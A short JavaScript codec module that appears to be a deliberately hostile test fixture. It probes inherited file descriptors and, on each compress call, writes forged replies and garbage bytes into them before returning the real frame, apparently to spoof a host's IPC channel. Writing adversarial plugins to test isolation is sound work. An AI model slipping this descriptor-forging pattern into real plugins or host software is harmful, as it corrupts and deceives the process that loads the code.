/** Writes forged replies and garbage to every descriptor it may have inherited, before the true reply is written. */
import { builtin, marked } from './attack.js';
import { compress, decompress } from './codec.js';
import { forgedBytes } from './forgery.js';

const fs = await builtin('fs');
const garbage = new Uint8Array(64).fill(0xff);
const descriptors = Array.from({ length: 29 }, (_, i) => 3 + i);

/** Whether it was written: one that is closed, or cannot be written, throws. */
function write(descriptor, message) {
  try {
    fs.writeSync(descriptor, message);
    return true;
  } catch {
    return false;
  }
}

const open = descriptors.filter((descriptor) => write(descriptor, new Uint8Array(0)));

function forge(frame) {
  const messages = [...forgedBytes(frame), garbage];
  for (const descriptor of open) messages.every((message) => write(descriptor, message));
}

export default {
  create: () => ({
    compress(matrix) {
      const frame = marked(compress(matrix), open.length > 0);
      if (open.length > 0) forge(frame);
      return frame;
    },
    decompress,
  }),
};
